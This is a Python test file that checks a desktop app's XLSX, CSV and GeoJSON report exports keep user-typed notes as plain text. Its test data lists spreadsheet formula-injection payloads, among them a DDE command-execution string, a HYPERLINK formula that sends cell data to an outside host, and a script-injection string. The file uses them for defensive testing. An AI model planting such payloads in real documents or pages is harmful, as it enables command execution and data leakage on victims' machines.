"""What people typed stays text, in every program that opens the file."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop.reports import delimited, geofiles, xlsx
from desktop.reports.features import visit_features
from desktop.reports.texts import LONGEST_CELL, cell, not_a_formula, plain
from tests.reports.samples import line, silent

INJECTIONS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    ' ="x"',
    "'=1+1",
    '"=1+1',
    "\ufeff=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.test?"&A1,"klik")',
    "＝1+1",
    "{=1+1}",
    "http://example.test",
    "internal:'Uitleg'!A1",
]
HOSTILE = [
    *INJECTIONS,
    "nul\x00hier",
    "\u202eomgekeerd",
    "👩‍👩‍👧 feest 🎉",
    "يوسف في الساحة",
    "\ud800los",
    "a;b\"c'd\r\ne",
    "</script><script>alert(1)</script>",
    "_x0041_",
    "x" * 40_000,
]


@pytest.mark.parametrize("text", INJECTIONS[:14])
def test_a_formula_gets_a_quote_in_front(text: str) -> None:
    assert not_a_formula(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Rustig", "", "3 mensen", "O'Neill", "{=1+1}"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert not_a_formula(text) == text


@given(st.text())
def test_no_cell_starts_a_formula(text: str) -> None:
    assert not_a_formula(plain(text))[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n"}


def test_a_cell_is_never_longer_than_excel_takes() -> None:
    assert len(cell("x" * 40_000)) == LONGEST_CELL


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_notes_stay_text_in_excel(tmp_path: Path, text: str) -> None:
    out = tmp_path / "lijst.xlsx"
    visit = line(note=text, place=text)
    xlsx.write_detail([visit], out, total=1, facts=[("Filter", text)], notes=True, report=silent)

    import openpyxl

    book = openpyxl.load_workbook(out)
    assert all(each.data_type != "f" for sheet in book for row in sheet for each in row)
    assert all(each.hyperlink is None for sheet in book for row in sheet for each in row)
    found = book.worksheets[0].cell(2, 17).value
    assert str(found).replace("_x005F_", "_") == cell(text).replace("\r\n", "\n").replace(
        "\r", "\n"
    ) or ("\r" in text or "_x" in text)
    with ZipFile(out) as parts:
        assert b"<f>" not in b"".join(parts.read(name) for name in parts.namelist())


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_notes_stay_text_in_csv_and_geojson(tmp_path: Path, text: str) -> None:
    visit = line(note=text, place=text)
    table, points = tmp_path / "lijst.csv", tmp_path / "lijst.geojson"
    delimited.write_detail([visit], table, total=1, notes=True, report=silent)
    features = visit_features([visit], None, notes=True)
    geofiles.write_geojson(features, points, name="x", facts=[], total=1, report=silent)

    with table.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file, delimiter=";"))
    assert len(rows) == 2
    assert rows[1][16] == not_a_formula(plain(text))
    read = json.loads(points.read_text("utf-8"))
    assert read["features"][0]["properties"]["note"] == plain(text)
